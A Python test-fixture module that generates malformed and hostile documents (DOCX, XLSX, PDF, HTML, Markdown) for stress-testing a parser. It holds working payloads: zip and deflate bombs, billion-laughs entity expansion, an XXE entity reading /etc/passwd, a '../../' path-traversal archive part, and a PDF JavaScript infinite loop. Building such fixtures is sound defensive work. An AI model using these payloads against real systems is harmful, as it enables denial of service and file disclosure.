"""Papers made to harm the one who opens them, and honest ones to begin from: made by code, never kept as files."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from itertools import pairwise

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
DOCUMENT, BOOK = "word/document.xml", "xl/workbook.xml"
MILLION = 1_000_000
PARAGRAPH = "<w:p><w:r><w:t>States take note of the report.</w:t></w:r></w:p>"


def packed(parts: Mapping[str, bytes | str], level: int = 9) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED, level)
    return whole.getvalue()


def body(inside: str, before: str = "<?xml version='1.0' encoding='UTF-8'?>") -> bytes:
    return f"{before}<w:document {W}><w:body>{inside}</w:body></w:document>".encode()


def word(inside: str = PARAGRAPH, before: str = "", **parts: str) -> bytes:
    others = {f"word/{name}.xml": f"<w:{name} {W}>{content}</w:{name}>" for name, content in parts.items()}
    return packed({DOCUMENT: body(inside, before), **others})


def sheet(strings: str) -> bytes:
    return packed({BOOK: f"<workbook {X}/>", "xl/sharedStrings.xml": f"<sst {X}>{strings}</sst>"})


def pdf(*objects: bytes, root: int = 1, xref: bytes | None = None) -> bytes:
    """Return a PDF of these objects, numbered from 1, with a true table of their places unless another is given."""
    whole, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    ending = xref or b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root %d 0 R>>\n" % (
        count,
        table,
        count,
        root,
    )
    return whole + ending + b"startxref\n%d\n%%%%EOF" % len(whole)


def stream(content: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (length or len(content), more, content)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
FONT = b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
WORDS = b"BT /F1 11 Tf 72 720 Td (States take note of the report.) Tj ET"


def page(box: bytes = b"0 0 595 842", resources: bytes = FONT) -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%b]/Contents 4 0 R/Resources %b>>" % (box, resources)


def one_page(contents: bytes, *more: bytes, box: bytes = b"0 0 595 842", resources: bytes = FONT) -> bytes:
    return pdf(CATALOG, PAGES, page(box, resources), contents, *more)


def deflated(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def laughs() -> str:
    """Return a document type whose last entity is a billion times its first."""
    rungs = (f'<!ENTITY {above} "{f"&{below};" * 10}">' for below, above in pairwise("abcdefghij"))
    return f'<!DOCTYPE w [<!ENTITY a "ha">{"".join(rungs)}]>'


def overlapping(size: int = 8 * MILLION, times: int = 500) -> bytes:
    """Return an archive whose list names one packed part many times: a few kilobytes that unpack to gigabytes."""
    whole = bytearray(packed({DOCUMENT: body(PARAGRAPH), "word/big.xml": "a" * size}))
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entries = bytes(whole[start:end])
    second = entries[entries.index(b"PK\x01\x02", 4) :]
    more = b"".join(second.replace(b"big", b"%03d" % number) for number in range(times))
    tail = bytearray(whole[end:])
    struct.pack_into("<HHII", tail, 8, times + 2, times + 2, len(entries) + len(more), start)
    return bytes(whole[:end]) + more + bytes(tail)


def nested(depth: int = 12) -> bytes:
    inner = packed({"0.xml": b"\0" * 10 * MILLION})
    for _ in range(depth):
        inner = packed({f"{number}.zip": inner for number in range(10)})
    return packed({DOCUMENT: body(PARAGRAPH), "word/embeddings/inner.zip": inner})


def flagged(content: bytes, offset_local: int, offset_central: int, value: int) -> bytes:
    """Return the archive with one field of its first part changed in both places where it stands."""
    found = bytearray(content)
    struct.pack_into("<H", found, offset_local, value)
    struct.pack_into("<H", found, found.index(b"PK\x01\x02") + offset_central, value)
    return bytes(found)


def twice() -> bytes:
    content = packed({DOCUMENT: body(PARAGRAPH), DOCUMENT.replace("word", "wOrd"): body("<w:p/>")})
    return content.replace(b"wOrd", b"word")


def wrong_checksum() -> bytes:
    content = bytearray(word())
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        struct.pack_into("<I", content, content.index(signature) + offset, 0xDEAD)
    return bytes(content)


def loop_of_pages() -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R 3 0 R]>>", page(), stream(WORDS))


def forms(depth: int = 9) -> bytes:
    """Return a page that shows a form that shows ten forms that show ten forms each, and so on."""
    objects = []
    for rung in range(depth):
        below = b"/XObject<</N %d 0 R>>" % (6 + rung) if rung < depth - 1 else b""
        shown = b"/N Do " * 10 if rung < depth - 1 else WORDS
        objects.append(
            stream(shown, b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<<%b%b>>" % (below, FONT[2:-2]))
        )
    return one_page(stream(b"/N Do"), *objects, resources=b"<</XObject<</N 5 0 R>>>>")


def loop_of_tables() -> bytes:
    start = len(pdf(CATALOG, PAGES, page(), stream(WORDS), xref=b"x")) - len(b"xstartxref\n000\n%%EOF")
    loop = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\n" % start
    return pdf(CATALOG, PAGES, page(), stream(WORDS), xref=loop)


def packed_objects() -> bytes:
    many = b"".join(b"%d 0 " % (number + 10) for number in range(100_000)) + b"<<>>" * 100_000
    return one_page(stream(WORDS), stream(deflated(many), b"/Type/ObjStm/N 100000/First 700000/Filter/FlateDecode"))


def deep_array() -> bytes:
    return pdf(CATALOG, PAGES, page(), stream(WORDS), b"[" * 100_000 + b"]" * 100_000)


def deep(tag: str, depth: int, inside: str = "") -> str:
    return f"<{tag}>" * depth + inside + f"</{tag}>" * depth


def in_utf_7() -> bytes:
    hidden = body("", LADDER).replace(b"<!", b"+ADwAIQ-")
    return packed({DOCUMENT: b"<?xml version='1.0' encoding='UTF-7'?>" + hidden})


def many_letters() -> bytes:
    words = b"BT /F1 1 Tf " + b"(aaaaaaaaaa) Tj " * MILLION
    return one_page(stream(deflated(words), b"/Filter/FlateDecode"))


def lying_picture() -> bytes:
    kind = b"/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 1/ColorSpace/DeviceGray"
    picture = stream(b"\0\0\0\0\x30\0\1\xff\xff\xff\xff\x7f\xff\xff\xff", kind + b"/Filter/JBIG2Decode")
    return one_page(stream(b"/I Do"), picture, resources=b"<</XObject<</I 5 0 R>>>>")


def scripted() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(1){})>>>>"
    return pdf(catalog, PAGES, page(), stream(WORDS))


def wide_table() -> bytes:
    row = b"|a" * MILLION + b"|\n"
    return row + b"|-" * MILLION + b"|\n" + row


def note_read_often() -> bytes:
    references = '<w:r><w:footnoteReference w:id="1"/></w:r>' * 20_000
    long = f'<w:footnote w:id="1"><w:p><w:r><w:t>{"word " * 20_000}</w:t></w:r></w:p></w:footnote>'
    return word(f"<w:p>{references}</w:p>", footnotes=long)


LADDER = laughs()
QUADRATIC = f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'

BOMBS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "archives in archives": ("a.docx", nested),
    "one packed part listed 500 times": ("a.docx", overlapping),
    "two parts of one name": ("a.docx", twice),
    "a part outside its folder": ("a.docx", lambda: packed({DOCUMENT: body(PARAGRAPH), "../../evil.xml": "x"})),
    "a part with a wrong checksum": ("a.docx", wrong_checksum),
    "an archive said to be locked": ("a.docx", lambda: flagged(word(), 6, 8, 1)),
    "an archive packed by another method": ("a.docx", lambda: flagged(word(), 8, 10, 12)),
    "an archive cut short": ("a.docx", lambda: word(PARAGRAPH * 1000)[:-40]),
    "an archive of 65,000 empty parts": ("a.docx", lambda: packed({f"{n}.xml": b"" for n in range(65_000)})),
    "ten million runs in a few kilobytes": ("a.docx", lambda: word(f"<w:p>{'<w:r/>' * 10 * MILLION}</w:p>")),
    "runs by the thousand, packed less": (
        "a.docx",
        lambda: word("".join(f'<w:p><w:r w:rsidR="{n * 7919 % 16**8:08x}"/></w:p>' for n in range(190_000))),
    ),
    "a million paragraphs": ("a.docx", lambda: word(PARAGRAPH * MILLION)),
    "a million tables in each other": ("a.docx", lambda: word("<w:tbl><w:tr><w:tc>" * MILLION)),
    "100,000 elements in each other": ("a.docx", lambda: word(deep("w:p", 100_000))),
    "an attribute of nine million letters": ("a.docx", lambda: word(f'<w:p w:a="{"a" * 9 * MILLION}"/>')),
    "200,000 attributes": (
        "a.docx",
        lambda: word("<w:p " + " ".join(f'a{n:06}="{n * 7919 % 9973}"' for n in range(200_000)) + "/>"),
    ),
    "a billion laughs": ("a.docx", lambda: word("<w:p>&j;</w:p>", LADDER)),
    "a billion laughs in an attribute": ("a.docx", lambda: word('<w:p w:a="&j;"/>', LADDER)),
    "quadratic entities": ("a.docx", lambda: word(f"<w:p>{'&a;' * 50_000}</w:p>", QUADRATIC)),
    "an entity of another file": ("a.docx", lambda: word("<w:p>&a;</w:p>", OUTSIDE)),
    "laughs in UTF-16": (
        "a.docx",
        lambda: packed({DOCUMENT: body("<w:p>&j;</w:p>", LADDER).decode().encode("utf-16")}),
    ),
    "laughs in UTF-7": ("a.docx", in_utf_7),
    "a long note read 20,000 times": ("a.docx", note_read_often),
    "shared strings by the million": ("a.xlsx", lambda: sheet("<si><t>a</t></si>" * 3 * MILLION)),
    "laughs in a workbook": ("a.xlsx", lambda: packed({BOOK: f"{LADDER}<workbook {X}>&j;</workbook>"})),
    "a PDF that is an archive": ("a.pdf", lambda: one_page(stream(WORDS)) + word()),
    "an archive that is a PDF": ("a.pdf", lambda: packed({"%PDF-1.7": b"x", DOCUMENT: body(PARAGRAPH)}, 0)),
    "a page that is a PDF": ("a.pdf", lambda: b"<html><script>1</script>" + one_page(stream(WORDS))),
    "a picture that is an archive": ("a.docx", lambda: b"GIF89a\x01\0\x01\0\0\0\0;" + word()),
    "a PDF packed a million times over": (
        "a.pdf",
        lambda: one_page(stream(deflated(b"\0" * 400 * MILLION), b"/Filter/FlateDecode")),
    ),
    "a PDF packed over and over": (
        "a.pdf",
        lambda: one_page(stream(deflated(b"(a) Tj " * 20 * MILLION, 3), b"/Filter[" + b"/FlateDecode" * 3 + b"]")),
    ),
    "forms in forms in forms": ("a.pdf", forms),
    "pages that hold themselves": ("a.pdf", loop_of_pages),
    "tables of places that follow themselves": ("a.pdf", loop_of_tables),
    "two thousand million pages": (
        "a.pdf",
        lambda: pdf(CATALOG, b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>", page(), stream(WORDS)),
    ),
    "a stream that lies about its length": ("a.pdf", lambda: one_page(stream(WORDS, length=2**31 - 1))),
    "a page as large as a country": ("a.pdf", lambda: one_page(stream(WORDS), box=b"0 0 1e30 1e30")),
    "100,000 objects in one stream": ("a.pdf", packed_objects),
    "100,000 arrays in each other": ("a.pdf", deep_array),
    "a PDF of ten million letters": ("a.pdf", many_letters),
    "a picture in JBIG2 that lies": ("a.pdf", lying_picture),
    "a script in a PDF": ("a.pdf", scripted),
    "a million tags without an end": ("a.html", lambda: b"<html>" + b"<b>" * MILLION),
    "a million paragraphs of a page": ("a.html", lambda: b"<html>" + b"<p>a" * MILLION),
    "100,000 boxes in each other": ("a.html", lambda: deep("div", 100_000, "a").encode()),
    "a page in UTF-7": ("a.html", lambda: b"<html><meta charset=utf-7><p>+ADw-script+AD4-"),
    "a comment without an end": ("a.html", lambda: b"<html>" + b"<!--" * MILLION),
    "an attribute without an end": ("a.html", lambda: b'<html><p a="' + b"a" * 7 * MILLION),
    "three quarters of a million entities": ("a.html", lambda: b"<html><p>" + b"&amp;&lt;&#x41;" * 250_000),
    "a text of NULs": ("a.txt", lambda: b"words\0" * MILLION),
    "a line of eight million letters": ("a.txt", lambda: b"a" * 8 * MILLION),
    "four million lines": ("a.txt", lambda: b"a\n" * 4 * MILLION),
    "two million paragraphs": ("a.md", lambda: b"a\n\n" * 2 * MILLION),
    "quotations in quotations": ("a.md", lambda: b">" * MILLION + b"a"),
    "lists in lists": ("a.md", lambda: b"\n".join(b" " * n + b"- a" for n in range(0, 3000, 2))),
    "links that never close": ("a.md", lambda: b"[a](" * MILLION),
    "a table of a million columns": ("a.md", wide_table),
    "definitions that never end": ("a.md", lambda: b"[a]: <\n" * 300_000),
}
"""Each bomb by what it is: the name of its file, and how it is made."""
